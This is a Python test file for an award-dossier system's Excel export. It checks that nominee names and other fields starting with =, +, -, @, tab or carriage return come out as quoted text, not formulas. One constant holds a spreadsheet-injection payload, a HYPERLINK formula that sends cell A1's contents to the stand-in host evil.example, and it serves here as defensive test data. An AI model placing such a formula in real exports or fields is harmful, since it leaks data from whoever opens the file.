"""A text in an export is never a formula: a nominee named `=HYPERLINK(…)` stays a name in lists.xlsx."""

import io
import zipfile
from datetime import date

import openpyxl
import pytest

from documents.assemble import XLSX
from documents.export import AwardeeRow, NomineeRow, workbook
from tests.conftest import Service
from tests.dossier_steps import APPRAISER, NOMINEES, create

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem hồ sơ")'
# OWASP's CSV-injection starts: =, +, -, @, tab and carriage return.
FORMULAS = [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def text_cells(content: bytes) -> dict[str, tuple[str, object, bool]]:
    """Every cell holding a text that starts like a formula: (type, value, quote prefix), by sheet and place."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        f"{sheet.title}!{cell.coordinate}": (cell.data_type, cell.value, cell.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    }


def no_formula_in(content: bytes) -> bool:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in archive.namelist()
                   if name.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_text_that_starts_like_a_formula_is_written_as_text(text: str):
    nominee = NomineeRow(campaign=text, unit=text, group="individual", name=text, position=text, stage=text, outcome=text)
    awardee = AwardeeRow(campaign=text, decision_number=text, signed_on=date(2025, 12, 20), group="individual",
                         name=text, position_unit=text, award_form=text, bonus_vnd=351_000)
    content = workbook([nominee], [awardee])
    cells = text_cells(content)
    assert len(cells) == 6 + 5  # every text of both rows but the group's name
    assert set(cells.values()) == {("s", text, True)}
    assert no_formula_in(content)


def test_plain_texts_and_numbers_keep_their_types():
    nominee = NomineeRow(campaign="Kẻ Sặt", unit="Phòng Kinh tế", group="collective", name="Phòng Kinh tế",
                         stage="Đang thẩm định", outcome="Đạt thẩm định")
    awardee = AwardeeRow(campaign="Kẻ Sặt", decision_number="01/QĐ-UBND", signed_on=date(2025, 12, 20),
                         group="collective", name="Phòng Kinh tế", position_unit="Phòng Kinh tế",
                         award_form="Giấy khen", bonus_vnd=702_000)
    book = openpyxl.load_workbook(io.BytesIO(workbook([nominee], [awardee])))
    name = book["Đề nghị khen thưởng"]["E2"]
    assert (name.value, name.data_type, name.quotePrefix) == ("Phòng Kinh tế", "s", False)
    bonus = book["Khen thưởng"]["I2"]
    assert (bonus.value, bonus.data_type) == (702_000, "n")


async def test_a_nominee_named_as_a_formula_is_a_name_in_lists_xlsx(running: Service):
    nominees = [NOMINEES[0], NOMINEES[1] | {"name": LINK, "position": "@Trưởng phòng"}]
    dossier = await create(running, nominees)
    assert [n["name"] for n in dossier["nominees"]] == ["Phòng Kinh tế", LINK]
    response = await running.api.get(f"/api/campaigns/{running.campaign}/generated/lists.xlsx",
                                     headers=running.as_user(APPRAISER))
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    assert text_cells(response.content) == {
        "Đề nghị khen thưởng!E3": ("s", LINK, True),
        "Đề nghị khen thưởng!F3": ("s", "@Trưởng phòng", True),
    }
    assert no_formula_in(response.content)
